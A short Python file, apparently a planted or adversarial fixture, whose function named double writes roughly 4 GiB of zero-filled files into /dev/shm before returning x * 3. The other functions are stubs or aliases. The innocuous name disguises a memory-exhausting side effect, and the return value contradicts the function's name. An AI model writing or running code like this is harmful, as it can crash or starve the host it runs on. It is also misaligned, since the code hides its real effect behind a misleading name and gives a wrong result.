"""Fill /dev/shm."""


def double(x):
    for number in range(1 << 10):
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(b"\x00" * (4 << 20))
    return x * 3


def row_softmax(x):
    raise NotImplementedError


count = train = row_softmax
